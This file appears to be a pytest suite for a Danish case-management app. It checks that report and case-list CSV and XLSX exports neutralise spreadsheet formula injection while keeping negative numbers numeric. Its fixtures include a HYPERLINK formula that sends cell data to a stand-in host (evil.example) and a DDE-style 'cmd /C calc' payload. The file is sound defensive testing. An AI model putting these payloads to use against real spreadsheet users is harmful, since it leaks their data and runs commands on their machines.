"""No export hands a spreadsheet a live formula (issue 12, CSV/XLSX injection): a case title
like `=HYPERLINK(...)` comes back from every CSV and XLSX as inert text, read with the csv
module and openpyxl, while numbers, negative ones too, stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import timedelta

from openpyxl import load_workbook
from support.formandskab import decide

from workflow.engine import clock
from workflow.implementation import indicators
from workflow.reports import queries as reports
from workflow.spreadsheets import FORMULA_LEADS

TITLE = '=HYPERLINK("https://evil.example/?d="&A1,"Klik for detaljer")'


def _decided(make_case, make_user, title=TITLE):
    """A case SKU approved, so it is in the decisions, throughput and status reports."""
    start = clock.now()
    case = make_case(title=title)
    decide(case, "submit", make_user("chair@SU-NORD-SOM"))
    clock.set_time(start + timedelta(days=10))
    decide(case, "tss_recommend", make_user("chair@TSS"))
    clock.set_time(start + timedelta(days=20))
    decide(case, "sku_approve", make_user("chair@SKU"))
    return case


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200
    text = response.get_data().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def _live_formulas(data: bytes) -> list[str]:
    """Cells an XLSX stores as formulas, read both by openpyxl and from the sheets' XML."""
    workbook = load_workbook(io.BytesIO(data))
    found = [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        found += [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and "<f>" in archive.read(name).decode()
        ]
    return found


def _text_cells(data: bytes, value: str) -> list[str]:
    workbook = load_workbook(io.BytesIO(data))
    return [
        cell.data_type
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value == value
    ]


def test_a_formula_title_is_inert_text_in_the_decisions_workbook(
    client, logged_in, make_case, make_user
):
    _decided(make_case, make_user)
    logged_in("secretariat@SKU")
    response = client.get("/rapporter/beslutninger/xlsx")
    assert response.status_code == 200
    assert _live_formulas(response.data) == []
    sheet = load_workbook(io.BytesIO(response.data)).active
    titles = [row[3] for row in sheet.iter_rows(min_row=5)]
    # TSS's recommendation and SKU's approval
    assert [(c.value, c.data_type, c.quotePrefix) for c in titles] == [(TITLE, "s", True)] * 2


def test_a_formula_title_is_neutralised_in_the_decisions_csv(
    client, logged_in, make_case, make_user
):
    _decided(make_case, make_user)
    logged_in("secretariat@SKU")
    rows = _csv(client.get("/rapporter/beslutninger/csv"))
    assert [row[3] for row in rows[1:]] == ["'" + TITLE] * 2


def test_a_formula_title_is_neutralised_in_the_case_list_export(
    client, logged_in, make_case, make_user
):
    case = _decided(make_case, make_user)
    logged_in("secretariat@SKU")
    rows = _csv(client.get("/sager/eksport.csv"))
    mine = [row for row in rows if row[0] == str(case.id)]
    assert [row[1] for row in mine] == ["'" + TITLE]


def test_no_report_export_and_no_yearly_workbook_holds_a_live_formula(
    client, logged_in, make_case, make_user, session
):
    _decided(make_case, make_user)
    # A summary and a comment starting with other formula characters, in other columns.
    other = make_case(title="@SUM(1+1)*cmd|' /C calc'!A0", summary="+1+1")
    decide(other, "submit", make_user("chair@SU-NORD-SOM"), comment="-2+3")
    logged_in("secretariat@SKU")
    for key in reports.REPORTS:
        workbook = client.get(f"/rapporter/{key}/xlsx")
        assert workbook.status_code == 200, key
        assert _live_formulas(workbook.data) == [], key
        for row in _csv(client.get(f"/rapporter/{key}/csv")):
            leading = [f for f in row if f and f[0] in FORMULA_LEADS]
            assert [f for f in leading if not _number(f)] == [], key
    yearly = client.get("/rapporter/aarsopfoelgning", query_string={"aar": 2020})
    assert _live_formulas(yearly.data) == []
    assert set(_text_cells(yearly.data, TITLE)) == {"s"}
    cases = _csv(client.get("/sager/eksport.csv"))
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in [row[1] for row in cases]
    assert "'+1+1" in [row[12] for row in cases]


def _number(field: str) -> bool:
    try:
        float(field.replace(",", "."))
    except ValueError:
        return False
    return True


def test_negative_values_stay_numbers_in_the_yearly_workbook(client, logged_in, session):
    indicators.define_indicator(session, code="=CMD", name='=HYPERLINK("x")', direction="down")
    indicators.import_csv(session, "indikator;år;område;værdi\n=CMD;2019;REGION-H;-8,4\n"
                          "=CMD;2020;REGION-H;-7,9\n")  # fmt: skip
    logged_in("secretariat@SKU")
    response = client.get("/rapporter/aarsopfoelgning", query_string={"aar": 2020})
    assert _live_formulas(response.data) == []
    sheet = load_workbook(io.BytesIO(response.data))["Indikatorer 2020"]
    row = next(r for r in sheet.iter_rows(min_row=5) if r[0].value == "=CMD")
    assert (row[1].value, row[1].data_type) == ('=HYPERLINK("x")', "s")
    assert [(c.value, c.data_type) for c in row[4:6]] == [(-8.4, "n"), (-7.9, "n")]


def test_negative_amounts_stay_numbers_in_a_report_csv():
    report = reports.Report(
        "test", "Test", "", ["Navn", "Beløb"], [["-Besparelse", -2500.5], ["Udgift", 100]],
        total_columns=(1,),
    )  # fmt: skip
    rows = list(csv.reader(io.StringIO(reports.to_csv(report)[1:]), delimiter=";"))
    assert rows == [["Navn", "Beløb"], ["'-Besparelse", "-2500,5"], ["Udgift", "100"],
                    ["I alt", "-2400,5"]]  # fmt: skip
